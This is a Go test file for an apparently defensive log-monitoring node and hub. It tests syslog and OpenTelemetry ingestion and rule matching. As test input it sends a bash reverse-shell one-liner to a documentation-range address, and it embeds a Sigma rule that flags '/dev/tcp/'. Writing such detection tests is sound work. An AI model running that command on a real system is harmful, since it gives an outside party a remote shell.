package node

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	collectorpb "go.opentelemetry.io/proto/otlp/collector/logs/v1"
	commonpb "go.opentelemetry.io/proto/otlp/common/v1"
	logspb "go.opentelemetry.io/proto/otlp/logs/v1"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	"github.com/meneki/meneki/internal/await"
	"github.com/meneki/meneki/internal/demo/samples"
	"github.com/meneki/meneki/internal/event"
	"github.com/meneki/meneki/internal/event/read"
	"github.com/meneki/meneki/internal/hub"
	"github.com/meneki/meneki/internal/identity"
	"github.com/meneki/meneki/internal/share/release"
	"github.com/meneki/meneki/internal/store"
	"github.com/meneki/meneki/sigma"
)

// pair is a hub and one member's node, running in this process.
type pair struct {
	hub  *hub.Hub
	node *Node
}

// openPair starts a hub and a node that joins it; change sets what is special
// about the node.
func openPair(t *testing.T, change func(*Config)) pair {
	t.Helper()
	log := slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	h, err := hub.Open(
		ctx,
		hub.Config{
			Data: filepath.Join(t.TempDir(), "hub"), Listen: "127.0.0.1:0", Open: true, CaseLevel: "low", Log: log,
		},
	)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(h.Close)
	_, token, err := h.People().Invite(
		ctx, identity.Operator("test"), identity.NewMember{Name: "Power", Sector: "power"},
	)
	if err != nil {
		t.Fatal(err)
	}
	rules, err := samples.Rules()
	if err != nil {
		t.Fatal(err)
	}
	linux, err := sigma.Parse("reverse_shell.yml", []byte(reverseShell))
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{
		Data: filepath.Join(t.TempDir(), "node"), Token: token, RuleSet: sigma.NewSet(append(rules.Rules, linux...)),
		Share: release.Open(), Open: true, Log: log,
	}
	change(&cfg)
	n, err := Open(ctx, cfg, h)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(n.Close)
	done := make(chan error, 2)
	go func() { done <- h.Run(ctx) }()
	go func() { done <- n.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		for range 2 {
			select {
			case err := <-done:
				if err != nil && ctx.Err() == nil {
					t.Error(err)
				}
			case <-time.After(20 * time.Second):
				t.Error("the hub or the node does not end")
			}
		}
	})
	return pair{h, n}
}

// reverseShell is a rule for lines of text, as syslog brings them.
const reverseShell = `
title: Shell Connects to the Network
id: 5f0c1d54-5f6b-4a6f-9d7e-3a1f5f6c0c01
author: meneki project
license: Apache-2.0
logsource:
    product: linux
detection:
    keywords:
        - '/dev/tcp/'
    condition: keywords
level: high
`

// atHub waits until the hub knows a finding of each host.
func (p pair) atHub(t *testing.T, rule string, hosts ...string) {
	t.Helper()
	await.Until(t, 20*time.Second, func() string {
		var got []string
		err := p.hub.DB().Read(t.Context(), store.System("test"), func(tx *store.Tx) (err error) {
			got, err = store.Query[string](tx, `SELECT f.host FROM findings f WHERE f.rule = $1 AND SCOPE(f)`, rule)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		missing := ""
		for _, h := range hosts {
			if !strings.Contains(" "+strings.Join(got, " ")+" ", " "+h+" ") {
				missing = h
			}
		}
		if missing == "" {
			if len(got) != len(hosts) {
				t.Errorf("findings of %v, want of %v", got, hosts)
			}
			return ""
		}
		return fmt.Sprintf("no finding of %s at the hub, only of %v; sensors: %+v %+v", missing, got,
			p.node.sensors.Lines(), p.node.sensors.Problems())
	})
}

// sampleEvent returns the first of the sample events that a rule matches, as
// another host's.
func sampleEvent(t *testing.T, rule, host string) []byte {
	t.Helper()
	set, err := samples.Rules()
	if err != nil {
		t.Fatal(err)
	}
	b, err := fs.ReadFile(samples.Files(), "events/power-live.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	var out []byte
	_, err = read.Stream(
		t.Context(),
		"power-live.jsonl",
		bytes.NewReader(b),
		read.Options{},
		func(ev *event.Event) error {
			for m := range set.Match(ev) {
				if m.Rule.ID == rule && out == nil {
					out = bytes.ReplaceAll(
						ev.Raw,
						[]byte(`"Hostname": "`+ev.Host+`"`),
						[]byte(`"Hostname": "`+host+`"`),
					)
				}
			}
			return nil
		},
	)
	if err != nil || out == nil {
		t.Fatalf("no sample event of rule %s: %v", rule, err)
	}
	return out
}

const (
	ruleShell    = "5f0c1d54-5f6b-4a6f-9d7e-3a1f5f6c0c01"
	ruleDownload = "5f0c1d54-5f6b-4a6f-9d7e-3a1f5f6c0a02"
)

// What comes by syslog, over each transport and in each format, is found and
// reaches the hub.
func TestSyslogEndToEnd(t *testing.T) {
	p := openPair(t, func(c *Config) { c.Syslog, c.SyslogTLS = "127.0.0.1:0", "127.0.0.1:0" })
	udp, tcp, secure := p.node.sensors.syslog.Addrs()
	text := "bash -i >& /dev/tcp/203.0.113.66/443 0>&1"
	send := func(c net.Conn, err error, messages ...string) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		for _, m := range messages {
			if _, err := io.WriteString(c, m); err != nil {
				t.Fatal(err)
			}
		}
	}
	c, err := net.Dial("udp", udp.String())
	send(c, err, "<38>Nov 22 05:00:00 udp3164 bash[1]: "+text, "<38>1 2026-11-22T05:00:00Z udp5424 bash 1 - - "+text)
	c, err = net.Dial("tcp", tcp.String())
	counted := "<38>1 2026-11-22T05:00:00Z tcpcounted bash 1 - - " + text
	send(
		c, err, "<38>1 2026-11-22T05:00:00Z tcpline bash 1 - - "+text+"\n",
		fmt.Sprintf("%d %s", len(counted), counted),
	)

	// The sender trusts the authority in the node's data folder, nothing else.
	ca, err := os.ReadFile(filepath.Join(p.node.cfg.Data, "tls", "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(ca) {
		t.Fatal("the authority is not PEM")
	}
	over := "<38>1 2026-11-22T05:00:00Z overtls bash 1 - - " + text
	c, err = tls.Dial("tcp", secure.String(), &tls.Config{RootCAs: pool, ServerName: "localhost"})
	send(c, err, fmt.Sprintf("%d %s", len(over), over))
	if _, err := tls.Dial(
		"tcp", secure.String(), &tls.Config{RootCAs: x509.NewCertPool(), ServerName: "localhost"},
	); err == nil {
		t.Error("a sender that trusts nobody was let in")
	}
	p.atHub(t, ruleShell, "udp3164", "udp5424", "tcpline", "tcpcounted", "overtls")

	// A Windows event as a forwarder sends it: JSON behind a syslog header.
	c, err = net.Dial("tcp", tcp.String())
	send(
		c, err,
		"<14>1 2026-11-22T05:00:00Z collector nxlog - - - "+string(sampleEvent(t, ruleDownload, "OFFICE-99"))+"\n",
	)
	p.atHub(t, ruleDownload, "OFFICE-99")

	// What cannot be read is counted where people look, and said once.
	c, err = net.Dial("tcp", tcp.String())
	send(c, err, "<38>1 2026-11-22T05:00:00Z big app 1 - - "+strings.Repeat("x", 1<<20)+"\n")
	await.True(t, 20*time.Second, "a message of 1 MB is not counted as unreadable", func() bool {
		bad, _ := p.node.sensors.losses()
		return bad > 0
	})
	var log bytes.Buffer
	to, told := slog.New(slog.NewTextHandler(&log, nil)), map[string]int64{}
	p.node.sensors.tellLosses(to, told)
	p.node.sensors.tellLosses(to, told)
	if n := strings.Count(log.String(), "could not read, or that were too large"); n != 1 {
		t.Errorf("it was said %d times: %s", n, log.String())
	}
}

// What an OpenTelemetry collector sends, as protobuf and as JSON, is found and
// reaches the hub; sent again, it is not found twice.
func TestOTLPEndToEnd(t *testing.T) {
	p := openPair(t, func(c *Config) { c.OTLP = "127.0.0.1:0" })
	url := "http://" + p.node.sensors.otlpLis.Addr().String() + "/v1/logs"
	post := func(kind string, body []byte) {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
		defer cancel()
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", kind)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		if b, _ := io.ReadAll(res.Body); res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %s", res.Status, b)
		}
	}
	text := func(s string) *commonpb.AnyValue {
		return &commonpb.AnyValue{Value: &commonpb.AnyValue_StringValue{StringValue: s}}
	}
	request := func(body *commonpb.AnyValue) *collectorpb.ExportLogsServiceRequest {
		return &collectorpb.ExportLogsServiceRequest{
			ResourceLogs: []*logspb.ResourceLogs{{ScopeLogs: []*logspb.ScopeLogs{{LogRecords: []*logspb.LogRecord{
				{TimeUnixNano: uint64(time.Now().UnixNano()), Body: body},
				{TimeUnixNano: uint64(time.Now().UnixNano()), Body: text("all is well")},
			}}}}},
		}
	}
	b, err := proto.Marshal(request(text(string(sampleEvent(t, ruleDownload, "OTLP-1")))))
	if err != nil {
		t.Fatal(err)
	}
	post("application/x-protobuf", b)
	post("application/x-protobuf", b)
	if b, err = protojson.Marshal(request(text(string(sampleEvent(t, ruleDownload, "OTLP-2"))))); err != nil {
		t.Fatal(err)
	}
	post("application/json", b)
	// A structured body, as the collector's Windows receiver makes it.
	var fields map[string]any
	if err := json.Unmarshal(sampleEvent(t, ruleDownload, "OTLP-3"), &fields); err != nil {
		t.Fatal(err)
	}
	list := &commonpb.KeyValueList{}
	for k, v := range fields {
		value := text(fmt.Sprint(v))
		if n, ok := v.(float64); ok {
			value = &commonpb.AnyValue{Value: &commonpb.AnyValue_IntValue{IntValue: int64(n)}}
		}
		list.Values = append(list.Values, &commonpb.KeyValue{Key: k, Value: value})
	}
	if b, err = proto.Marshal(
		request(&commonpb.AnyValue{Value: &commonpb.AnyValue_KvlistValue{KvlistValue: list}}),
	); err != nil {
		t.Fatal(err)
	}
	post("application/x-protobuf", b)
	p.atHub(t, ruleDownload, "OTLP-1", "OTLP-2", "OTLP-3")
	var counts []int64
	err = p.node.db.Read(t.Context(), store.System("test"), func(tx *store.Tx) (err error) {
		counts, err = store.Query[int64](
			tx, `SELECT f.count FROM findings f WHERE f.rule = $1 AND SCOPE(f)`, ruleDownload,
		)
		return err
	})
	if err != nil || fmt.Sprint(counts) != "[1 1 1]" {
		t.Errorf("counts %v, %v", counts, err)
	}
}
